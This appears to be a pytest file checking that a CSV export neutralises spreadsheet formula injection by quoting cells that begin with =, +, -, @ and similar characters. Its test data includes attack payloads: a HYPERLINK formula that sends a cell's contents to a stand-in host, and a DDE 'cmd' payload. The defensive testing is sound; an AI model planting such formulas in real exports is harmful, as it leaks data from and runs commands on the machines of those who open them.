"""No cell of a table is a formula, whatever somebody typed, and everything else reads as it was."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from midspan.kernel.spreadsheets import csv_from

LINK = '=HYPERLINK("http://elsewhere.example/?"&A1,"Open")'
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def read(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("begins", BEGINNINGS)
def test_what_begins_a_formula_is_text(begins):
    assert read(csv_from(["What"], [[f"{begins}1+1"]])) == [["What"], [f"'{begins}1+1"]]


@pytest.mark.parametrize("cell", [LINK, "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd", "-2+3", "+15405550100"])
def test_known_attacks_are_text(cell):
    assert read(csv_from(["What"], [[cell]]))[1] == [f"'{cell}"]


@pytest.mark.parametrize("before", [" ", "  ", "\u00a0", '"', "'", "\ufeff", "\u200b"])
def test_what_is_dropped_before_a_formula_hides_none(before):
    assert read(csv_from(["What"], [[f"{before}=1+1"]]))[1] == [f"'{before}=1+1"]


@pytest.mark.parametrize(
    "cell", ["", "José, 12 Mill Street", 'He said "no"', "two\r\nlines", "a=b", "5 - 3", "O'Neill"]
)
def test_other_words_read_as_they_were(cell):
    assert read(csv_from(["What"], [[cell]]))[1] == [cell]


def test_names_of_columns_are_text_too():
    assert read(csv_from(["=A1"], [])) == [["'=A1"]]


@pytest.mark.slow
@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2), max_size=4))
def test_no_separator_or_quote_moves_a_cell(rows):
    found = read(csv_from(["One", "Two"], rows))[1:]

    assert [[cell.removeprefix("'") for cell in row] for row in found] == [
        [cell.removeprefix("'") for cell in row] for row in rows
    ]
    assert not any(cell[:1] in BEGINNINGS for row in found for cell in row)
